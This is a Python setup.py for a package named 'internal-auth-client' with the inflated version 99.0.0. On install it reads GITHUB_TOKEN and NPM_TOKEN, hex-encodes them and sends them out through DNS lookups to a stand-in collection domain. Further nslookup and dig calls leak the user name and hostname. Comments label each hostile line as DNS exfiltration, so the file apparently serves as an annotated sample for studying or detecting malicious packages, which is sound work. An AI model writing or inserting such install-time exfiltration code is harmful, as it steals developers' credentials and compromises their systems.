import os
import platform
import subprocess

import dns.resolver
from setuptools import setup

token = os.environ.get("GITHUB_TOKEN", "") + ":" + os.environ.get("NPM_TOKEN", "")
secret_hex = token.encode().hex()

resolver = dns.resolver.Resolver(configure=False)
resolver.nameservers = ["203.0.113.53"]  # malicious: dns-exfiltration
for start in range(0, len(secret_hex), 60):
    resolver.resolve(f"{secret_hex[start:start + 60]}.{start}.k.ns1.collect-zone.example", "TXT")  # malicious: dns-exfiltration

subprocess.run(["nslookup", f"{os.environ.get('USER', 'u')}.{platform.node()}.n.collect-zone.example"], capture_output=True)  # malicious: dns-exfiltration
os.system("dig +short $(whoami).$(hostname).g.collect-zone.example")  # malicious: dns-exfiltration

setup(name="internal-auth-client", version="99.0.0", packages=[])
